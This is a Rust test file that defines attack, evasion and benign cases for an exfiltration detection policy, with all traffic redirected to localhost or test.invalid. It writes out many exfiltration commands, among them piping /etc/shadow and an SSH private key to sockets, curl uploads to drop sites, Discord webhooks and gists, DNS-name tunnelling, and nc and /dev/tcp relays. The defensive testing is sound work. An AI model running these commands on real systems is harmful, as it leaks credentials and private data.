//! Cases for the policy `exfiltration`.
//!
//! Nothing leaves this host: the far ends are ports of it, and who names a site is led there instead.

use std::{fs, io::Read, net::TcpListener, os::unix::fs::PermissionsExt, path::PathBuf, process::Command};

use super::{Case, act, detached, os};
use crate::{scene::Scene, stage::Stage};

/// Leads whatever curl asks for to a port of this host that nobody listens on.
const CURL: &str = "c() { curl -s --connect-timeout 2 --connect-to ::127.0.0.1:9 \"$@\" || :; };";

/// A private key in a home.
fn key(stage: &Stage) -> PathBuf {
    stage.file(".ssh/id_ed25519")
}

/// A shell whose command writes into a connection to this test.
fn into_a_connection(stage: &Stage, command: &str) -> u32 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let reader = std::thread::spawn(move || {
        let mut received = Vec::new();
        listener.accept().unwrap().0.read_to_end(&mut received).unwrap();
    });
    let script = format!("{command} > /dev/tcp/127.0.0.1/{port}");
    let pid = stage.run(Command::new("bash").args(["-euc", &script]));
    reader.join().unwrap();
    pid
}

/// A shell script without a terminal that is given the port of a listener which takes one connection.
fn joined(scene: &Scene, shell: &str, script: &str) -> u32 {
    scene.answered(b"", |port| {
        let mut command = detached(shell);
        command.args(["-euc", script, "sh"]).arg(port.to_string());
        command
    })
}

/// What scp takes for ssh: it agrees to everything.
fn agreeing(stage: &Stage) -> PathBuf {
    let program = stage.file("agreeing");
    fs::write(&program, "#!/bin/sh\nprintf '\\0\\0\\0\\0'; cat > /dev/null 2>&1; exit 0\n").unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    program
}

fn scp(stage: &Stage, file: &PathBuf) -> u32 {
    stage.run(
        Command::new("scp").args(["-O", "-q", "-S"]).arg(agreeing(stage)).arg(file).arg("test.invalid:/tmp"),
    )
}

pub const CASES: &[Case] = &[
    Case {
        rule: "Secret read, then a connection",
        attacks: &[
            act("in_one_pipe", |s| {
                let script = "cat /etc/shadow | { cat > /dev/null; \"$1\" --act connect 127.0.0.1:9; }";
                s.shell(script, &[os(&s.helper())])
            })
            .showing(&["T1048"]),
            act("by_one_script", |s| {
                let script = "use IO::Socket::INET; open I, '<', '/etc/shadow' or die; my @secret = <I>;
                    my $far = IO::Socket::INET->new('127.0.0.1:4443'); print $far @secret if $far";
                s.run(Command::new("perl").args(["-e", script]))
            })
            .showing(&["T1041"]),
        ],
        evasions: &[act("read_by_the_shell_itself", |s| {
            let script = "while read -r line; do :; done < \"$1\"; curl -s --connect-timeout 2 http://127.0.0.1:9/ || :";
            s.shell(script, &[os(&s.link_to(key(s).to_str().unwrap()))])
        })],
        benign: &[act("something_else_read", |s| {
            let script = "cat /etc/passwd | { cat > /dev/null; \"$1\" --act connect 127.0.0.1:9; }";
            s.shell(script, &[os(&s.helper())])
        })],
    },
    Case {
        rule: "Secret read with a connection as output",
        attacks: &[act("password_hashes", |s| into_a_connection(s, "cat /etc/shadow"))],
        evasions: &[act("a_tool_of_another_kind", |s| {
            let command = format!("sort {}", s.file(".aws/credentials").display());
            into_a_connection(s, &command)
        })],
        benign: &[act("something_else", |s| into_a_connection(s, "echo something"))],
    },
    Case {
        rule: "Secret given to a file transfer program",
        attacks: &[act("copied_to_another_machine", |s| scp(s, &key(s)))],
        evasions: &[act("through_a_link", |s| scp(s, &s.link_to("/etc/shadow")))],
        benign: &[act("another_file", |s| scp(s, &s.file("report")))],
    },
    Case {
        rule: "Secret named in an upload",
        attacks: &[act("uploaded", |s| {
            s.shell(&format!("{CURL} c -T \"$1\" http://test.invalid/"), &[os(&key(s))])
        })],
        evasions: &[
            act("as_a_form", |s| {
                s.shell(&format!("{CURL} c -F \"f=@$1\" http://test.invalid/"), &[os(&key(s))])
            }),
            act("as_data", |s| {
                s.shell(&format!("{CURL} c --data-binary \"@$1\" http://test.invalid/"), &[os(&key(s))])
            }),
        ],
        benign: &[act("another_file", |s| {
            s.shell(&format!("{CURL} c -T \"$1\" http://test.invalid/"), &[os(&s.file("report"))])
        })],
    },
    Case {
        rule: "File sent to a drop site",
        attacks: &[
            act("a_place_for_text", |s| {
                s.shell(&format!("{CURL} c -F \"f=@$1\" https://0x0.st"), &[os(&s.file("report"))])
            })
            .showing(&["T1567.003"]),
            act("a_place_for_files", |s| {
                s.shell(
                    &format!("{CURL} c --upload-file \"$1\" https://transfer.sh/x"),
                    &[os(&s.file("report"))],
                )
            })
            .showing(&["T1567.002"]),
            act("a_catcher_of_requests", |s| {
                s.shell(
                    &format!("{CURL} c -d \"@$1\" https://webhook.site/made-by-a-test"),
                    &[os(&s.file("report"))],
                )
            })
            .showing(&["T1567.004"]),
        ],
        evasions: &[],
        benign: &[act("looked_at", |s| s.shell(&format!("{CURL} c https://0x0.st/"), &[]))],
    },
    Case {
        rule: "File sent to a chat service",
        attacks: &[act("a_notice", |s| {
            s.shell(
                &format!("{CURL} c -F \"f=@$1\" https://discord.com/api/webhooks/1/x"),
                &[os(&s.file("report"))],
            )
        })],
        evasions: &[],
        benign: &[act("looked_at", |s| s.shell(&format!("{CURL} c https://discord.com/"), &[]))],
    },
    Case {
        rule: "File sent to a code repository by hand",
        attacks: &[act("as_a_gist", |s| {
            s.shell(
                &format!("{CURL} c -X POST -d \"@$1\" https://api.github.com/gists"),
                &[os(&s.file("report"))],
            )
        })],
        evasions: &[],
        benign: &[act("looked_at", |s| s.shell(&format!("{CURL} c https://api.github.com/gists"), &[]))],
    },
    Case {
        rule: "Files sent to cloud storage",
        attacks: &[act("by_its_client", |s| {
            let (_place, tool) = s.copy_of("/bin/true", "/var/lib", "rclone");
            s.run(Command::new(tool).args(["copy", "/srv/files", "archive:files"]))
        })],
        evasions: &[],
        benign: &[act("listed", |s| {
            let (_place, tool) = s.copy_of("/bin/true", "/var/lib", "rclone");
            s.run(Command::new(tool).args(["ls", "archive:files"]))
        })],
    },
    Case {
        rule: "Secret sent to cloud storage",
        attacks: &[act("by_its_client", |s| {
            let (_place, tool) = s.copy_of("/bin/true", "/var/lib", "aws");
            s.run(Command::new(tool).args(["s3", "cp", "/root/.ssh/id_ed25519", "s3://made-by-a-test/x"]))
        })],
        evasions: &[act("by_a_client_brought_along", |s| {
            let (_place, tool) = s.copy_of("/bin/true", "/dev/shm", "svchost");
            s.run(Command::new(tool).args(["copy", "/srv", "mega:x", "--transfers", "16"]))
        })],
        benign: &[act("fetched", |s| {
            let (_place, tool) = s.copy_of("/bin/true", "/var/lib", "aws");
            s.run(Command::new(tool).args(["s3", "ls", "s3://made-by-a-test/"]))
        })],
    },
    Case {
        rule: "Data hidden in names or echo requests",
        attacks: &[act("names", |s| {
            let script = "for part in 1 2 3; do
                getent hosts \"$part$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \\n').test.invalid\" || :
            done";
            s.shell(script, &[])
        })],
        evasions: &[],
        benign: &[act("names_as_usual", |s| {
            s.shell(
                "for name in localhost test.invalid www.test.invalid; do getent hosts $name || :; done",
                &[],
            )
        })],
    },
    Case {
        rule: "File sent over a connection of the shell",
        attacks: &[act("encoded", |s| {
            joined(s, "/bin/bash", "base64 /etc/hostname > /dev/tcp/127.0.0.1/$1; :")
        })],
        evasions: &[act("connection_kept_open", |s| {
            joined(s, "/bin/bash", "exec 7<>/dev/tcp/127.0.0.1/$1; cat /etc/hostname >&7; :")
        })],
        benign: &[act("written_to_a_file", |s| {
            joined(s, "/bin/bash", "exec 7<>/dev/tcp/127.0.0.1/$1; cat /etc/hostname > /dev/null; echo x >&7")
        })],
    },
    Case {
        rule: "Archive sent through a relay",
        attacks: &[act("tar", |s| {
            joined(s, "/bin/sh", "tar -cf - -C /etc hostname | busybox nc 127.0.0.1 $1 > /dev/null || :")
        })],
        evasions: &[act("upload", |s| {
            let script = "tar -czf - -C /etc hostname |
                curl -s --connect-timeout 2 --max-time 2 -T - http://127.0.0.1:$1/ > /dev/null || :";
            joined(s, "/bin/sh", script)
        })],
        benign: &[act("packed_and_connected", |s| {
            let script =
                "tar -cf - -C /etc hostname | cat > /dev/null; busybox nc 127.0.0.1 $1 < /dev/null || :";
            joined(s, "/bin/sh", script)
        })],
    },
    Case {
        rule: "Encrypted and sent by a general tool",
        attacks: &[act("in_one_pipe", |s| {
            let script = "tar -cf - -C /etc hostname | openssl enc -aes-256-cbc -pbkdf2 -k made-by-a-test |
                { cat > /dev/null; \"$1\" --act connect 127.0.0.1:9; }";
            s.shell(script, &[os(&s.helper())])
        })],
        evasions: &[act("one_after_the_other", |s| {
            let script = "openssl aes-256-cbc -pbkdf2 -k made-by-a-test -in \"$1\" -out \"$1.x\"
                curl -s --connect-timeout 2 -T \"$1.x\" http://127.0.0.1:9/ || :";
            s.shell(script, &[os(&s.file("report"))])
        })],
        benign: &[act("checked", |s| {
            let script = "openssl dgst -sha256 \"$1\"; curl -s --connect-timeout 2 http://127.0.0.1:9/ || :";
            s.shell(script, &[os(&s.file("report"))])
        })],
    },
    Case {
        rule: "Scheduled upload",
        attacks: &[act("by_cron", |s| {
            let script = format!("{CURL} c -T \"$1\" http://test.invalid/");
            let report = s.file("report");
            let act = [os("run"), os("/bin/sh"), os("-euc"), os(&script), os("sh"), os(&report)];
            s.run(&mut s.act_by(&s.named("cron"), act))
        })],
        evasions: &[],
        benign: &[act("fetched", |s| {
            let script = format!("{CURL} c http://test.invalid/");
            s.run(&mut s.act_by(&s.named("cron"), [os("run"), os("/bin/sh"), os("-euc"), os(&script)]))
        })],
    },
];
